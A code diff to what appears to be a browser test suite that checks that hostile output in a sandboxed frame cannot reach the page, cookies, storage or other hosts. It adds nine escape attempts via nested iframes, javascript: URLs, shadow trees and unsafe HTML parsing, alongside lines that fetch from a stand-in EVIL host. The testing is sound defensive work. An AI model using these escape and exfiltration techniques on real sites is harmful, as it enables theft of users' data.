@@ -287,6 +287,27 @@ attempt("worker's import", () => work(`importScripts("${EVIL}")`));
 attempt("calls", () => call(window));
 attempt("calls of a nested frame", () => call(add("iframe", {}).contentWindow));
 attempt("nested frame", () => add("iframe", {srcdoc: `<img src="${EVIL}"><script>fetch("${EVIL}")<\\/script>`}));
+const caller = `<script>(${call})(window)<\\/script>`.replaceAll("STUN", STUN);
+const framed = `<iframe srcdoc='${caller.replaceAll("'", "&#39;")}'></iframe>`;
+const root = () => add("div", {}).attachShadow({mode: "closed"});
+attempt("calls of a page in a nested frame", () => add("iframe", {srcdoc: caller}));
+attempt("of one with a script for its address", () => add("iframe", {src: "javascript:" + JSON.stringify(caller)}));
+attempt("of one in a shadow tree", () => { root().innerHTML = framed; });
+attempt("of one in a copied shadow tree", () => {
+  const host = document.createElement("div");
+  host.attachShadow({mode: "open", clonable: true}).innerHTML = framed;
+  document.body.append(host.cloneNode(true));
+});
+const declared = `<div><template shadowrootmode=closed>${framed}</template></div>`;
+attempt("of one that is written", () => document.write(framed, declared));
+attempt("of one in a written document", () => { const made = document.open(); made.write(framed, declared); made.close(); });
+attempt("of one in unsafe HTML", () => add("div", {}).setHTMLUnsafe(declared));
+attempt("of one in a parsed document", () => document.body.append(...Document.parseHTMLUnsafe(declared).body.children));
+attempt("of one while the parent is busy", () => {
+  add("iframe", {srcdoc: caller});
+  const end = performance.now() + 500;
+  while (performance.now() < end);
+});
 setTimeout(() => {
   attempt("download", () => add("a", {href: EVIL, download: "x"}).click());
   attempt("form", () => add("form", {action: EVIL}).submit());
@@ -300,7 +321,7 @@ setTimeout(() => {
 
 
 def test_nothing_gets_out_of_a_frame(browser: Browser) -> None:
-    """A hostile output tries to reach the page, its cookies and storage, this site and another host by 37 ways: nothing arrives anywhere."""
+    """A hostile output tries to reach the page, its cookies and storage, this site and another host by 46 ways: nothing arrives anywhere."""
     with framesite.serving({"control.html": b""}) as evil, socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as stun:
         stun.bind(("127.0.0.1", 0))
         stun.settimeout(0.2)
@@ -320,7 +341,7 @@ def test_nothing_gets_out_of_a_frame(browser: Browser) -> None:
             page.goto(server.address + POST)
             page.wait_for_selector("html[data-tried]", state="attached")
             heard = page.evaluate("heard")
-            assert len(next(message["tried"] for message in heard if message["t"] == "tried")) == 37
+            assert len(next(message["tried"] for message in heard if message["t"] == "tried")) == 46
             assert {message["t"] for message in heard} <= {"tried", "knowrepo:ready", "knowrepo:h", "knowrepo:drawn"}
             assert page.url == server.address + POST
             assert "taken" not in page.title()
@@ -355,7 +376,7 @@ def test_the_frame_document_does_nothing_by_itself(browser: Browser) -> None:
     ("hosts", "line"),
     [
         ((), "Pictures from other hosts, such as the tiles of a map, are not loaded."),
-        (("tile.example.org",), "Pictures in this output are loaded from tile.example.org."),
+        (("tile.example.org",), "This output may load pictures from tile.example.org."),
     ],
     ids=["none", "one"],
 )
